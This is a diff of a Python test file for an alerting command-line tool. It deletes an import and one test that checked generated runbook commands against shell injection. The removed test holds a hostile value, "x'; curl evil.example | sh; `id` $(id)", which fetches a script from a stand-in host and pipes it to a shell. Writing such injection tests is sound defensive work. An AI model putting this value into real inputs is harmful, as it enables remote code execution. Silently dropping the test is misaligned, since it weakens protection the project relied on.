@@ -1,6 +1,5 @@
 import asyncio
 import json
-import shlex
 from datetime import UTC, datetime
 
 import pytest
@@ -62,18 +61,6 @@ def test_ls_and_show(kafka: KafkaCluster, run_id: str) -> None:
     missing = run(kafka, run_id, "show", "nothing")
     assert missing.exit_code == 1
     assert "no alert 'nothing'" in missing.stderr
-
-
-def test_a_runbook_cannot_be_made_to_run_anything() -> None:
-    from streams.commands.alerts import _runbook
-
-    hostile = "x'; curl evil.example | sh; `id` $(id)"
-    text = "\n".join(_runbook(alert(trigger_id=hostile), None))
-    (command,) = [line.strip(" `") for line in text.splitlines() if "blast_radius" in line]
-    words = shlex.split(command)
-    assert words[:4] == ["pointsman", "query", "blast_radius", "--param"]
-    assert len(words) == 5
-    assert not set(words[4]) & set("`$();|'")
 
 
 def test_a_suppression_from_its_writing_to_its_end(kafka: KafkaCluster, run_id: str) -> None:
